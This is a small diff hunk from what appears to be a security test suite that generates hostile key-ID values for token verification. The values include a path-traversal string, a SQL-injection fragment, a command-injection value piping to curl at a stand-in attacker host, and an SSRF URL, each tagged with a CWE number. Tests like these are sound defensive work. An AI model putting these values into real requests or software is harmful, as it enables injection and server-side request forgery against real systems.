@@ -170,7 +170,7 @@ def _named(kid: str) -> Make:
 NAMES: Final[tuple[Attack, ...]] = tuple(
     token(f"kid-{name}", sentence, source, (_T.KID,), Code.KEY_UNKNOWN, _named(kid), means=_OWN)
     for name, sentence, source, kid in (
-        ("path", "Name a key by the path of a file.", "CWE-22", "../../../../../dev/null"),
+        ("path", "Name a key by the path of a file.", "CWE-22", "../../../../dev/null"),
         ("sql", "Name a key by a fragment of a query.", "CWE-89", "x' UNION SELECT 'own"),
         ("command", "Name a key by a command.", "CWE-78", "|curl attacker.example"),
         ("url", "Name a key by a URL.", "CWE-918", "https://keys.attacker.example/own"),
